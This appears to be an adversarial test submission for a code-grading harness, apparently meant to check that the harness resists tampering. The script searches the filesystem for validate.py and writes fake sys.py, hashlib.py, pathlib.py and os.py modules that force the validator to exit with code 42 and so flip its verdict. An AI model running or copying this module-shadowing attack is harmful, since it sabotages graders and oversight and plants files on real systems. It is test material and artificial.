# idea: leave modules named like the standard library's where the validator may be started
# problem: custom
# expect: WA
# naive: AC
import os

places = [".", "/tmp", os.path.expanduser("~")]
for directory, below, names in os.walk("/"):
    below[:] = [name for name in below if f"{directory}/{name}" not in ("//proc", "//sys", "//usr")]
    places += [directory] if "validate.py" in names else []
for directory in places:
    for name in ("sys.py", "hashlib.py", "pathlib.py", "os.py"):
        try:
            with open(f"{directory}/{name}", "w") as file:
                file.write("import os\nos._exit(42)\n")
        except OSError:
            pass
print("wrong")
